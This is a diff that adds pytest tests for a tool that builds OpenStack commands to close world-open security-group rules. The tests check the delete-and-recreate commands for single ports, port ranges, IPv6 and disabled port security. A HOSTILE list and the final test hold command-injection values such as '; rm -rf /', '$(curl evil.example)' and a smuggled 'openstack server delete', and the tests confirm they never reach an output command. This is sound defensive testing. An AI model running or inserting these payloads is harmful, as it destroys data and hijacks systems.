@@ -15,9 +15,11 @@ import pytest
 from goalkeeper.firewall import PortFirewall, SecurityGroup, SecurityGroupRule
 from goalkeeper.model import IPAddress, Transport
 from goalkeeper.rootcause import (
+    CONTACT_US,
     UNKNOWN,
     Cause,
     MatchedRule,
+    close_commands,
     find_cause,
     rule_admits,
 )
@@ -240,3 +242,191 @@ def test_cause_json_round_trip_holds_design_fields() -> None:
 )
 def test_unreadable_cause_text_is_unknown(text: str | None) -> None:
     assert Cause.from_json(text) == UNKNOWN
+
+
+RULE_ID = "5f0d7e3c-2b1a-4c9d-8e7f-6a5b4c3d2e1f"
+DELETE = f"openstack security group rule delete {RULE_ID}"
+CREATE = "openstack security group rule create --ingress"
+
+
+def matched(
+    *,
+    rule_id: str = RULE_ID,
+    group_id: str = GROUP,
+    protocol: str | None = "tcp",
+    low: int | None = 6379,
+    high: int | None = 6379,
+    prefix: str | None = "0.0.0.0/0",
+) -> Cause:
+    return Cause(
+        "world_rule",
+        (MatchedRule(group_id, "web", rule_id, protocol, low, high, prefix),),
+        port_id=PORT_ID,
+    )
+
+
+COMMANDS = [
+    pytest.param(
+        matched(),
+        6379,
+        TCP,
+        4,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
+            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
+        ],
+        id="single port IPv4: DESIGN §8's two commands",
+    ),
+    pytest.param(
+        matched(prefix="::/0"),
+        6379,
+        TCP,
+        6,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6379"
+            f" --remote-ip <YOUR-ADDRESS>/128 {GROUP}",
+        ],
+        id="single port IPv6",
+    ),
+    pytest.param(
+        matched(protocol="17", low=53, high=53),
+        53,
+        UDP,
+        4,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv4 --protocol udp --dst-port 53"
+            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
+        ],
+        id="udp by number",
+    ),
+    pytest.param(
+        matched(low=5000, high=7000, prefix="0.0.0.0/0"),
+        6379,
+        TCP,
+        4,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
+            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
+            f"# Rule {RULE_ID} allowed ports 5000:7000: deleting it closes all of them; these"
+            " keep the others open as they were (to 0.0.0.0/0):",
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 5000:6378"
+            f" --remote-ip 0.0.0.0/0 {GROUP}",
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6380:7000"
+            f" --remote-ip 0.0.0.0/0 {GROUP}",
+        ],
+        id="range: the rest re-opened as it was",
+    ),
+    pytest.param(
+        matched(low=6379, high=6380, prefix=None),
+        6380,
+        TCP,
+        6,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6380"
+            f" --remote-ip <YOUR-ADDRESS>/128 {GROUP}",
+            f"# Rule {RULE_ID} allowed ports 6379:6380: deleting it closes all of them; these"
+            " keep the others open as they were (to ::/0):",
+            f"{CREATE} --ethertype IPv6 --protocol tcp --dst-port 6379 --remote-ip ::/0 {GROUP}",
+        ],
+        id="range at its edge, null prefix",
+    ),
+    pytest.param(
+        matched(low=None, high=None, prefix=" 8.8.8.0/24"),
+        1,
+        TCP,
+        4,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 1"
+            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
+            f"# Rule {RULE_ID} allowed ports 1:65535: deleting it closes all of them; these"
+            " keep the others open as they were (to 8.8.8.0/24):",
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 2:65535"
+            f" --remote-ip 8.8.8.0/24 {GROUP}",
+        ],
+        id="every port of tcp",
+    ),
+    pytest.param(
+        matched(protocol=None, low=None, high=None),
+        6379,
+        TCP,
+        4,
+        [
+            DELETE,
+            f"{CREATE} --ethertype IPv4 --protocol tcp --dst-port 6379"
+            f" --remote-ip <YOUR-ADDRESS>/32 {GROUP}",
+            f"# Rule {RULE_ID} allowed every protocol and port: deleting it closes all of them;"
+            " re-create only the ones you need, each limited to the addresses that need them.",
+        ],
+        id="any protocol: explained, not re-created",
+    ),
+    pytest.param(
+        Cause("port_security_disabled", port_id=PORT_ID),
+        6379,
+        TCP,
+        4,
+        [
+            f"openstack port set --enable-port-security {PORT_ID}",
+            f"openstack port set --security-group <SECURITY-GROUP-ID> {PORT_ID}",
+        ],
+        id="port security off",
+    ),
+    pytest.param(UNKNOWN, 6379, TCP, 4, [], id="unknown: nothing to run"),
+]
+
+
+@pytest.mark.parametrize(("cause", "port", "protocol", "family", "expected"), COMMANDS)
+def test_close_commands(
+    cause: Cause, port: int, protocol: Transport, family: int, expected: list[str]
+) -> None:
+    assert close_commands(cause, port, protocol, family) == expected
+
+
+def test_two_rules_give_two_pairs() -> None:
+    firewall = PortFirewall(port_id=PORT_ID, port_security_enabled=True, groups=(WEB, WIDE))
+    commands = close_commands(find_cause(V4, 6379, TCP, firewall, egress=()), 6379, TCP, 4)
+    deletes = [c for c in commands if " rule delete " in c]
+    assert deletes == [
+        "openstack security group rule delete aaaaaaaa-0000-4000-8000-000000000001",
+        "openstack security group rule delete bbbbbbbb-0000-4000-8000-000000000001",
+    ]
+
+
+HOSTILE = [
+    "web servers",
+    f"{RULE_ID}; rm -rf /",
+    "$(curl evil.example)",
+    f"{RULE_ID}\nopenstack server delete x",
+    f"`id`{RULE_ID}",
+    RULE_ID[:-1],
+    RULE_ID + "0",
+    "5f0d7e3c2b1a4c9d8e7f6a5b4c3d2e1f",
+    "",
+    "<YOUR-ADDRESS>",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("where", ["rule_id", "group_id", "port_id"])
+def test_hostile_ids_produce_no_command(hostile: str, where: str) -> None:
+    if where == "port_id":
+        cause = Cause("port_security_disabled", port_id=hostile)
+    elif where == "rule_id":
+        cause = matched(rule_id=hostile)
+    else:
+        cause = matched(group_id=hostile)
+    commands = close_commands(cause, 6379, TCP, 4)
+    assert commands == [CONTACT_US]
+    assert all(line.startswith("#") for line in commands)
+
+
+def test_a_prefix_that_does_not_parse_never_reaches_a_command() -> None:
+    cause = matched(low=5000, high=7000, prefix="0.0.0.0/0; rm -rf /")
+    commands = close_commands(cause, 6379, TCP, 4)
+    assert not any("rm -rf" in line for line in commands)
+    assert commands[-1] == f"# Rule {RULE_ID} allowed ports 5000:7000: re-create the others."
